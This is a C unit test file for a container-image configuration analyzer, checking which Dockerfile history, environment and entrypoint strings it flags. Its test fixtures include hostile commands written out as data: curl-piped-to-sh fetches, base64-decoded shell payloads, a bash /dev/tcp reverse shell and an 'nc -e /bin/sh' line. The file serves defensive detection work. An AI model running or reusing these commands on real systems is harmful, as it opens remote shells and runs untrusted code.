/* SPDX-License-Identifier: Apache-2.0 */
/* The analyzer "configuration": texts of the config that are told of, and ones that are not. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "fake_ledger.h"

extern const struct analyzer_ops analyzer_configuration;

static struct ledger l;

static int set_up(void **state)
{
	fake_ledger_init(&l);
	return 0;
}

static int tear_down(void **state)
{
	fake_ledger_done(&l);
	return 0;
}

static const struct {
	enum artifact_place place;
	const char *text, *check;
} texts[] = {
	{PLACE_HISTORY, "/bin/sh -c apt-get update && apt-get install -y curl", NULL},
	{PLACE_HISTORY, "/bin/sh -c #(nop) CMD [\"bash\"]", NULL},
	{PLACE_HISTORY, "RUN /bin/sh -c curl -fsSL https://x.invalid/a.sh | sh # buildkit",
		"config-fetch-run"},
	{PLACE_HISTORY, "/bin/sh -c curl -o a https://x.invalid/a && sha256sum -c a.sum && sh a",
		NULL},
	{PLACE_HISTORY, "/bin/sh -c wget http://x.invalid/a -O /usr/bin/a && chmod +x /usr/bin/a",
		"config-fetch-plain"},
	{PLACE_HISTORY, "/bin/sh -c wget https://x.invalid/a -O /usr/bin/a && chmod +x /usr/bin/a",
		NULL},
	{PLACE_HISTORY, "ADD https://x.invalid/a.tgz /opt/ # buildkit", "config-remote-add"},
	{PLACE_HISTORY, "/bin/sh -c #(nop) ADD http://x.invalid/a.tgz in /opt/",
		"config-remote-add"},
	{PLACE_HISTORY, "ADD --checksum=sha256:00 https://x.invalid/a.tgz /opt/", NULL},
	{PLACE_HISTORY, "/bin/sh -c #(nop) ADD file:0011 in / ", NULL},
	{PLACE_HISTORY, "RUN /bin/sh -c pip install --trusted-host x.invalid a",
		"config-unverified"},
	{PLACE_HISTORY, "RUN /bin/sh -c echo aGk= | base64 -d | sh", "config-step-hidden"},
	{PLACE_HISTORY, "RUN /bin/sh -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
		"config-step-connects"},
	{PLACE_HISTORY, "RUN /bin/sh -c echo 'root:toor' | chpasswd", "config-password-step"},
	{PLACE_HISTORY, "RUN /bin/sh -c chmod -R 777 /srv", "config-writable-step"},
	{PLACE_HISTORY, "ARG NPM_TOKEN=abc", "config-secret-name"},
	{PLACE_HISTORY, "ARG NPM_TOKEN", NULL},
	{PLACE_HISTORY, "ARG VERSION=1.2", NULL},
	{PLACE_HISTORY, "|2 VERSION=1 NPM_TOKEN=abc /bin/sh -c npm ci", "config-secret-name"},
	{PLACE_HISTORY, "RUN |1 NPM_TOKEN=abc /bin/sh -c npm ci # buildkit", "config-secret-name"},
	{PLACE_HISTORY, "|1 VERSION=1 /bin/sh -c npm ci", NULL},
	{PLACE_HISTORY, "|99999999999999999999 /bin/sh -c npm ci", NULL},
	{PLACE_HISTORY, "", NULL},
	{PLACE_ENV, "PATH=/usr/local/bin:/usr/bin", NULL},
	{PLACE_ENV, "PATH=.:/usr/bin", "config-path"},
	{PLACE_ENV, "DB_PASSWORD=x", "config-secret-name"},
	{PLACE_ENV, "DB_PASSWORD=", NULL},
	{PLACE_ENV, "DB_PASSWORD_FILE=/run/secrets/x", NULL},
	{PLACE_ENV, "POSTGRES_PASSWORD=/run/secrets/x", NULL},
	{PLACE_ENV, "GPG_KEY=E3FF2839C048B25C084DEBE9B26995E310250568", NULL},
	{PLACE_ENV, "LD_PRELOAD=/usr/lib/libjemalloc.so", "config-preload"},
	{PLACE_ENV, "NODE_TLS_REJECT_UNAUTHORIZED=0", "config-unverified-env"},
	{PLACE_ENV, "LANG=C.UTF-8", NULL},
	{PLACE_ENTRYPOINT, "nginx -g daemon off;", NULL},
	{PLACE_ENTRYPOINT, "/bin/sh -c curl -s https://x.invalid/a | sh", "config-start-fetches"},
	{PLACE_ENTRYPOINT, "/bin/sh -c echo aGk= | base64 -d | sh", "config-start-hidden"},
	{PLACE_ENTRYPOINT, "nc -e /bin/sh 127.0.0.1 9", "config-start-connects"},
	{PLACE_LABEL, "maintainer=curl | sh", NULL},
};

static void texts_of_the_config(void **state)
{
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		fake_ledger_clear(&l);
		fake_show_text(&analyzer_configuration, NULL, &l, texts[i].place, 0, texts[i].text);
		if (texts[i].check ? l.nfindings == 1 && fake_find(&l, texts[i].check)
				   : l.nfindings == 0)
			continue;
		fake_print(&l);
		fail_msg("\"%s\": wanted %s", texts[i].text,
			texts[i].check ? texts[i].check : "nothing");
	}
}

static void values_of_secrets_are_not_shown(void **state)
{
	static const char *const shown[] = {"ARG NPM_TOKEN=hunter2",
		"|1 NPM_TOKEN=hunter2 /bin/sh -c x",
		"RUN /bin/sh -c echo 'root:hunter2' | chpasswd",
		"RUN curl -k -u me:hunter2 https://x.invalid",
		"RUN curl -k https://me:hunter2@x.invalid/"};

	for (size_t i = 0; i < sizeof(shown) / sizeof(shown[0]); i++) {
		fake_ledger_clear(&l);
		fake_show_text(&analyzer_configuration, NULL, &l, PLACE_HISTORY, 0, shown[i]);
		assert_int_equal(l.nfindings, 1);
		assert_true(str_find(l.findings[0].title, STR("hunter2")) < 0);
		if (str_find(l.findings[0].excerpt, STR("hunter2")) >= 0)
			fail_msg("%.*s", STR_ARG(l.findings[0].excerpt));
	}
}

static void show_image(const struct artifact_config *c, const char *tag)
{
	struct artifact_image image = {.ref = STR("x.invalid/a"),
		.registry = STR("x.invalid"),
		.tag = str_of(tag),
		.config_digest = STR("sha256:00"),
		.config = *c};

	fake_ledger_clear(&l);
	fake_show_image(&analyzer_configuration, NULL, &l, &image);
}

static void the_config_itself(void **state)
{
	static const struct str check[] = {{"CMD", 3}}, port[] = {{"22/tcp", 6}, {"8080/tcp", 8}},
				volume[] = {{"/var/run/docker.sock", 20}};
	static const struct artifact_pair base = {
		{"org.opencontainers.image.base.name", 34}, {"debian", 6}};
	struct artifact_config good = {
		.user = STR("1000:1000"), .healthcheck = check, .nhealthcheck = 1};

	show_image(&good, "1.2");
	assert_int_equal(l.nfindings, 0);
	show_image(&good, "latest");
	assert_non_null(fake_find(&l, "config-latest"));
	show_image(&(struct artifact_config){.user = STR_NULL}, "1.2");
	assert_int_equal(l.nfindings, 2);
	assert_true(str_is(artifact_finding_fact(fake_find(&l, "config-root"), "cis"), "4.1"));
	assert_non_null(fake_find(&l, "config-no-healthcheck"));
	show_image(&(struct artifact_config){.user = STR("0:1")}, "1.2");
	assert_non_null(fake_find(&l, "config-root"));
	good.ports = port;
	good.nports = 2;
	good.volumes = volume;
	good.nvolumes = 1;
	good.labels = &base;
	good.nlabels = 1;
	show_image(&good, "1.2");
	assert_int_equal(l.nfindings, 3);
	assert_int_equal(fake_count(&l, "config-port"), 1);
	assert_int_equal(fake_count(&l, "config-host-volume"), 1);
	assert_int_equal(fake_count(&l, "config-unpinned-base"), 1);
}

static void show_entry(const char *path, enum artifact_file_kind kind, uint32_t mode)
{
	struct artifact_file f = {.path = str_of(path), .kind = kind, .mode = mode};

	fake_ledger_clear(&l);
	fake_show_file(&analyzer_configuration, NULL, &l, &f, STR_NULL);
}

static void what_everybody_may_write(void **state)
{
	show_entry("/usr/bin/x", ARTIFACT_FILE, 0755);
	assert_int_equal(l.nfindings, 0);
	show_entry("/usr/bin/x", ARTIFACT_FILE, 0777);
	assert_non_null(fake_find(&l, "config-writable-program"));
	show_entry("/usr/local/bin", ARTIFACT_DIR, 0777);
	assert_non_null(fake_find(&l, "config-writable-program"));
	show_entry("/usr/bin/x", ARTIFACT_SYMLINK, 0777);
	assert_int_equal(l.nfindings, 0);
	show_entry("/tmp", ARTIFACT_DIR, 01777);
	assert_int_equal(l.nfindings, 0);
	show_entry("/etc/x.conf", ARTIFACT_FILE, 0666);
	assert_non_null(fake_find(&l, "config-writable-settings"));
	show_entry("/usr/bin/sudo", ARTIFACT_FILE, 04755);
	assert_non_null(fake_find(&l, "config-sudo"));
	show_entry("/usr/sbin/sshd", ARTIFACT_FILE, 0755);
	assert_non_null(fake_find(&l, "config-sshd"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(texts_of_the_config),
		cmocka_unit_test(values_of_secrets_are_not_shown),
		cmocka_unit_test(the_config_itself),
		cmocka_unit_test(what_everybody_may_write),
	};
	return cmocka_run_group_tests(tests, set_up, tear_down);
}
